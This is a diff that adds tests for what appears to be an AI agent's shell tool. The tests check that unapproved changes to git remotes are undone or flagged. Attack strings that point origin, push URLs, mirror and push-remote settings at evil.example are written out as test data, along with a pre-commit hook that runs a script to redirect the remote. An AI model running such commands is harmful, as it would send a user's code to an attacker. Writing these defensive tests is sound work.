@@ -1041,6 +1041,32 @@ async def test_a_remote_of_git_is_moved_only_with_an_approval(harness: ToolHarne
 
 @works
 @pytest.mark.parametrize(
+    "attack", ["set-url origin https://evil.example/a", "set-url --add fork https://evil.example/a"]
+)
+async def test_an_approved_change_of_a_remote_covers_no_other_one(harness: ToolHarness, attack: str) -> None:
+    """A hook of the user's runs a script of the project."""
+    repository(harness.dir)
+    git(harness.dir, "remote", "add", "origin", "https://example.org/a.git")
+    hook = harness.dir / ".git/hooks/pre-commit"
+    hook.parent.mkdir(exist_ok=True)
+    hook.write_text("#!/bin/sh\nexec sh ./check.sh\n")
+    hook.chmod(0o755)
+    (harness.dir / "check.sh").write_text(f"git remote {attack}")
+    tool = shell(harness)
+    value = await harness.use(tool, command="git remote add fork ../fork.git && git commit -q --allow-empty -m x")
+    assert "push would go elsewhere" in value.message
+    assert "evil" not in git(harness.dir, "remote", "-v")
+    (harness.dir / "check.sh").write_text("")
+    for moved in ("add fork ../fork.git && git commit -q --allow-empty -m x", "rename origin upstream",
+                  "set-url --push fork 'https://example.org/b#c.git'", "rm fork", "add --mirror=push copy ../copy.git",
+                  "set-url --add copy ../other.git", "set-url --delete copy 'copy[.]git'"):  # fmt: skip
+        value = await harness.use(tool, command=f"git remote {moved}")
+        assert "undid" not in value.message
+    assert git(harness.dir, "remote").split() == ["copy", "upstream"]
+
+
+@works
+@pytest.mark.parametrize(
     ("attack", "undone"),
     [
         ("git config remote.origin.url https://evil.example/a", "remote.origin.url"),
@@ -1048,6 +1074,8 @@ async def test_a_remote_of_git_is_moved_only_with_an_approval(harness: ToolHarne
         ("git config remote.pushDefault https://evil.example/a", "remote.pushdefault"),
         ("git config branch.main.pushRemote https://evil.example/a", "branch.main.pushremote"),
         ("git remote add evil https://evil.example/a; git config branch.main.remote evil", "branch.main.remote"),
+        ("git config remote.origin.mirror true", "remote.origin.mirror"),
+        ("git config remote.origin.gh-resolved evil/a", "remote.origin.gh-resolved"),
         ("git config --worktree remote.origin.pushUrl https://evil.example/a", "remote.origin.pushurl"),
         ("cd ../tree; git config --worktree branch.x.remote https://evil.example/a", "branch.x.remote"),
     ],
